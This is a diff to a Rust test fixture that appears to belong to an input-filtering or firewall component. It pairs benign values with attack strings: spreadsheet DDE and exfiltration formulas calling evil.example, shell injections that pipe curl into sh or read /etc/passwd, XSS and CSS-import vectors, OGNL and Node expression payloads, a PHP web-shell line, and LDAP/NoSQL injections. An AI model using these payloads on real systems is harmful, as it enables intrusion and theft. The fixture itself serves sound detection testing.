@@ -116,6 +116,21 @@ const PAIRS: &[Pair] = &[
     ]),
     body("data", &["date;time;host\n2024-05-12;10:15;web1\n"], &["x;whoami\ny;z", "a;b\nx;cat config.php"]),
     body("name", &["date;time;sort"], &["x;ls\ny;z", "x;curl\n1;2"]),
+    // formulas that start programs or send what other cells hold
+    body("name", &["=SUM(A1:A5)", "=IF(A1>5,1,2)", "=HYPERLINK(\"https://example.com\",\"click\")", "-5 | cmd", "+49 30 123"], &[
+        "=cmd|'/c calc'!A1", "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!D2", "@SUM(1+1)*cmd|'/c calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example/\"&A1)", "a;b\n=cmd|'/c calc'!A1;2",
+    ]),
+    body("formula", &["=HYPERLINK(\"https://example.com/\"&A1,\"click\")", "=VLOOKUP(A1;B:C;2;0)"], &["=cmd|'/c calc'!A1"]),
+    // stages of queries, and files that a shell would read behind a pipe
+    body("filter", &["index=web | head 10 | sort -count | top limit=5 uri", "index=web | eval x=a/b | stats count by x"], &[
+        "x | head -1 /etc/passwd", "x || mv /etc/passwd /tmp", "x | date -f /etc/passwd", "x | make -f /tmp/x",
+    ]),
+    at("/api/workflows/7", body("value", &["{{ x }} `a`"], &["{{x}};curl http://evil.example/|sh", "{{ x }}`id`", "{{ x }}$(id)", "{{ x }};cat /etc/passwd"])),
+    at("/admin/settings", body("command", &["/usr/bin/php /var/www/shop/cron.php"], &["/usr/bin/perl /var/www/uploads/shell.pl", "/usr/bin/php /home/x/.ssh/id_rsa", "/usr/bin/php /var/www/a.php;curl http://evil.example/|sh"])),
+    // what people read quotes code
+    body("message", &["foo the bar `cat /etc/hosts` there"], &["`cat /etc/passwd`"]),
+    body("host", &["host-1"], &["foo the bar `curl http://evil.example/|sh`"]),
     query("ip", &["10.0.0.1"], &[
         "1.1.1.1;cat /etc/passwd # a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a",
         "1.1.1.1\n\n\n;cat /etc/passwd", "1.1.1.1;cat /etc/passwd\n\n\n\n", "1.1.1.1\nx y\nz a\n;cat /etc/passwd",
@@ -217,6 +232,27 @@ const PAIRS: &[Pair] = &[
         "alert(1)-/this is the/", "if (this) alert(1)", "with (this) alert(1)", "this && alert(1) && this", "this\nthis\nalert(1)", "alert(1), 'you are the'",
         "void this, new it, alert(1)", "a, i, system('id')",
     ]),
+    // markup of elsewhere and that leads elsewhere, however it is written
+    body("html", &[
+        "<style>@import url('https://fonts.googleapis.com/css2?family=Inter');</style><p>x</p>", "<a href=\"https://a.example\" ping=\"/url?sa=t&url=https://a.example\">x</a>",
+        "<meta content=\"text/html; charset=utf-8\" http-equiv=\"Content-Type\"><p>x</p>", "<video poster=\"/a.jpg\" controls></video>",
+    ], &[
+        "<style>@import '//evil.example/x.css'</style>", "<style>@import url(https://evil.example/fonts.css);</style>", "<a ping=//evil.example href=#>x</a>",
+        "<meta/http-equiv=refresh content=0;url=//evil.example>", "<meta content=\"0;url=//evil.example\" http-equiv=refresh>", "<base/href=//evil.example>", "<video poster=javascript:alert(1)>",
+        "<style>a{background:url(javascript:alert(1))}</style>", "<svg\u{c}onload=x()>", "<x onpointerenter=x()>", "<a href=javas&#99;ript:alert(1)>x</a>", "<form action=javascript:alert(1)>",
+        "<button formaction=javascript:alert(1)>x", "<iframe srcdoc=x>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<table background=javascript:alert(1)>",
+    ]),
+    body("css", &["@import url(\"https://cdn.example.org/a.css\"); body { color: red }", "@import 'variables';"], &["body{background:url(javascript:alert(1))}"]),
+    body("theme", &["dark"], &["@import '//evil.example/x.css';", "red}@import url(https://evil.example/)"]),
+    // expressions of servers' languages
+    query("expr", &["price * 2", "process the environment"], &[
+        "process.env", "process.env.SECRET", "JSON.stringify(process.env)", "require('child_process')", "%{#a=1}", "%{(#a=1)}", "${#a=1}", "%{(#nike='multipart/form-data')}", "%{#_memberAccess['x']}",
+    ]),
+    query("q", &["process.env.NODE_ENV"], &["this.constructor.constructor('return process')()"]),
+    body("script", &["console.log(process.env.HOME)", "echo ${#list[@]}"], &["%{#a=1}"]),
+    // what takes one line is no document, however much is sent, and an attribute is left at the beginning of one
+    body("title", &["Kim"], &["<iframe src=//evil.example>\naa\nbb\ncc\ndd", "<?php system($_GET[1]);?>\naa\nbb\ncc\ndd", "\" onfocus=x() autofocus x=\"\naa\nbb\ncc\ndd"]),
+    body("letter", &["<p style=\"x\" class=\"y\">Dear \"Kim\",</p>\n<p>aa</p>\nbb\ncc\ndd", "onclick=\"x\" is it\naa\nbb\ncc\ndd"], &["\" onfocus=x() autofocus x=\"\naa\nbb\ncc\ndd"]),
     // passwords that look like a filter or a path
     body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)", "n)(I<Yqk", "Xk$0<<<9a", "x1';", "a'-'Kx9!pQ7z", "$inK4l:x", "p;ls9>k/x"], &[
         "*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow", "()(uid=*))(|(uid=*", "a(b)*)(uid=*))(|(uid=*", "admin)(&)", "*)(&", "x)(|(a=*", "{\"$ne\":null}", "{$gt:''}",
